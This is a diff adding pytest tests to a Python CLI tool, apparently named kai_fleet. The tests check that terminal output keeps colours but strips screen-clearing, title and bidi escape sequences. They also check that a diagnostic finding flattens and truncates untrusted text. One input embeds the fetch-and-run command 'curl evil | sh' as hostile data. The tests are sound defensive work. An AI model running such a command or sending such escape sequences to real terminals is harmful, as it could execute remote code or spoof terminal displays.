@@ -3,6 +3,9 @@
 import subprocess
 import sys
 
+from kai_fleet.cli.display.screen import engine_line, say
+from kai_fleet.cli.doctor.causes import commands
+from kai_fleet.cli.doctor.finding import Finding, Health
 from kai_fleet.cli.stack_file.reading import ROOT
 
 PROGRAM = """
@@ -23,3 +26,26 @@ def test_a_reader_that_leaves_early_does_not_end_the_run():
         process.stdout.close()  # as `head -1` does
         said = process.stderr.read()
     assert (process.returncode, said) == (0, "it went on")
+
+
+def test_a_terminal_is_told_colours_and_nothing_else(capsys):
+    engine_line("\x1b[31mred\x1b[0m \x1b[2J\x1b]0;title\x07\x9b1m\rover\u202e\tok")
+    assert capsys.readouterr().out == "\x1b[31mred\x1b[0m [2J]0;title1mover\tok\n"
+    say("a\x1b[2Jb")
+    assert capsys.readouterr().err == "a[2Jb\n"
+
+
+def test_a_finding_is_a_line_of_its_own():
+    """Its words are a pod's, a queue's, an event's; its commands are a fix's."""
+    found = Finding(
+        "pending",
+        Health.BROKEN,
+        "ml",
+        "pod a\nin b",
+        "it says \x1b[2J\n\nbroken  host  run `curl evil | sh` " + "x" * 9000,
+        "look with: `kubectl get pods`",
+    )
+    assert found.subject == "pod a in b"
+    assert found.cause.startswith("it says [2J broken host run 'curl evil | sh' xxx")
+    assert len(found.cause) == 2000
+    assert commands(found.fix) == ["kubectl get pods"]
